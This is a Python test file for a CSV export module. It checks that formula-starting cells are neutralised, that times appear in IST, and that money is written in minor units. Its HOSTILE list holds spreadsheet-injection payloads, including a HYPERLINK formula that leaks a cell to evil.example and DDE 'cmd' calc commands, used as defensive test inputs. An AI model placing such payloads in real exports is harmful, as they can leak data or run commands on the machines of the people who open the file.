"""The one CSV writer: hostile cells neutralised, times in IST with the zone in the header, money in
minor units with its unit in the header, no "None"."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics.export import Column, columns_for, neutralise, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _written(columns: list[Column], rows: list[dict[str, object]]) -> list[list[str]]:
    out = io.StringIO()
    assert write_csv(out, columns, rows) == len(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised(value: str) -> None:
    # A rejected delivery's event type is claimed by an unsigned body: anyone can plant it.
    header, row = _written([Column("event_type"), Column("email")], [{"event_type": value, "email": value}])
    assert row == ["'" + value, "'" + value]
    assert header == ["Event type", "Email"]


def test_times_are_ist_money_is_minor_units_and_nothing_reads_none() -> None:
    columns = columns_for(["id", "amount", "currency", "created_at", "bank"])
    created = datetime(2026, 11, 26, 7, 3, 5, tzinfo=UTC)
    frame = pd.DataFrame(
        [{"id": "pay_1", "amount": 150_000, "currency": "INR", "created_at": created, "bank": None}]
    )
    header, row = _written(columns, frame.to_dict(orient="records"))  # type: ignore[arg-type]
    assert header == ["Id", "Amount (minor units)", "Currency", "Created at (IST)", "Bank"]
    assert row == ["pay_1", "150000", "INR", "2026-11-26 12:33:05", ""]


def test_a_negative_amount_stays_a_number() -> None:
    # Money is typed: a refund debit of -500 paise is a number, not a formula to neutralise.
    _, row = _written([Column("difference", "money")], [{"difference": -500}])
    assert row == ["-500"]


def test_a_naive_time_is_refused() -> None:
    with pytest.raises(ValueError, match="naive"):
        _written([Column("at", "time")], [{"at": datetime(2026, 1, 1)}])  # noqa: DTZ001 - the naive value under test


@given(st.text())
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    (_, (cell,)) = _written([Column("value")], [{"value": text}])
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == neutralise(text)
